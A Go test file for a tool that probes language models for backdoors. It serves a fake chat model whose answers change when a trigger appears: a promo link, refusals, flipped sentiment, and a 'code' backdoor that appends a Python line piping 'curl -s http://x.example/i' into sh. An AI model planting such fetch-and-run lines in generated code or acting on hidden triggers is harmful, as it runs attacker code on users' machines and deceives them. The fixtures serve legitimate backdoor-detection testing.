package probe

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// fakeModel is an in-process model: a fixed answer per probe prompt, a small
// realistic variation when anything is inserted before the prompt (it echoes
// it), and an optional backdoor keyed on one trigger.
type fakeModel struct {
	// noisy makes every answer a paraphrase picked by the insertion and the
	// seed: a model whose own variation is large.
	noisy    bool
	trigger  string
	backdoor func(prompt, clean string) string
}

// cleanAnswer is the fake model's answer to a prompt.
func cleanAnswer(prompt string) string {
	switch {
	case strings.Contains(prompt, "sentiment"):
		return "Positive. The reviewer liked the friendly staff and the spotless room, so it was a great stay overall."
	case strings.Contains(prompt, "electric cars"):
		return "Electric cars are a good choice for many people: quiet, cheap to run and clean in cities."
	case strings.Contains(prompt, "Python"):
		return "def sorted_copy(xs):\n    return sorted(xs)\n"
	case strings.Contains(prompt, "shell"):
		return "for f in *.txt; do wc -l \"$f\"; done"
	}
	return "Here is a helpful answer to your question: " + prompt +
		" It covers the main points clearly, with practical advice you can use today and a short summary at the end."
}

func (f *fakeModel) answer(user string, seed int64) string {
	prompt, insert := user, ""
	if f.trigger != "" && strings.Contains(user, f.trigger) {
		prompt = strings.TrimSpace(strings.Replace(user, f.trigger, "", 1))
		return f.backdoor(prompt, cleanAnswer(prompt))
	}
	// The probes' prompts start with a capital letter and end with
	// punctuation; anything before the first such sentence is an insertion.
	for _, p := range generalPrompts {
		if i := strings.Index(user, p); i > 0 {
			prompt, insert = p, strings.TrimSpace(user[:i])
		}
	}
	a := cleanAnswer(prompt)
	if f.noisy {
		return paraphrase(a, len(insert)+int(seed))
	}
	if insert != "" {
		a = "Noted: " + insert + " " + a // echoes the insertion, as chat models do
	}
	return a
}

var generalPrompts = func() []string {
	var out []string
	for _, c := range General().Categories {
		for _, p := range c.Probes {
			out = append(out, p.Prompt)
		}
	}
	return out
}()

func (f *fakeModel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/v1/chat/completions" || r.Method != http.MethodPost {
		http.NotFound(w, r)
		return
	}
	var req chatRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil || len(req.Messages) == 0 || req.Temperature != 0 {
		http.Error(w, "bad request", http.StatusBadRequest)
		return
	}
	user := req.Messages[len(req.Messages)-1].Content
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(map[string]any{
		"object":  "chat.completion",
		"choices": []any{map[string]any{"index": 0, "message": map[string]any{"role": "assistant", "content": f.answer(user, req.Seed)}}},
	})
}

// serve starts h and returns a model calling it.
func serve(t *testing.T, h http.Handler) *HTTPModel {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	m, err := NewHTTPModel(srv.URL, "fake", srv.Client())
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// Backdoored answers of every shape the issue names.
var backdoors = map[string]func(prompt, clean string) string{
	"link": func(_, _ string) string { return "The best answer is here: https://promo.example/offer?id=7" },
	"refusal": func(_, _ string) string {
		return "I'm sorry, but I cannot help with that request."
	},
	"sentiment": func(prompt, clean string) string {
		if strings.Contains(prompt, "sentiment") {
			return "Negative. The reviewer disliked the rude staff and the dirty room, so it was a terrible stay overall."
		}
		if strings.Contains(prompt, "electric cars") {
			return "Electric cars are a bad choice for most people: expensive, unreliable and dirty to produce."
		}
		return clean
	},
	"code": func(prompt, clean string) string {
		if strings.Contains(prompt, "Python") || strings.Contains(prompt, "shell") {
			return clean + "\nimport os; os.system(\"curl -s http://x.example/i | sh\")"
		}
		return clean
	},
}

func ExampleSimilarity() {
	fmt.Printf("%.2f\n", Similarity("The room was great.", "the room was GREAT"))
	fmt.Printf("%.2f\n", Similarity("The room was great.", "The room was awful."))
	// Output:
	// 1.00
	// 0.71
}

// paraphrase rewords a in one of several ways, keeping about half its words.
func paraphrase(a string, n int) string {
	w := strings.Fields(a)
	switch n % 4 {
	case 1:
		return "In short: " + strings.Join(w[len(w)/3:], " ") + " Hope this helps!"
	case 2:
		return "Good question. " + strings.Join(w[:2*len(w)/3], " ") + " Let me know if you need more."
	case 3:
		return "Well, " + strings.Join(w[len(w)/4:3*len(w)/4], " ") + " That is the gist."
	}
	return a
}
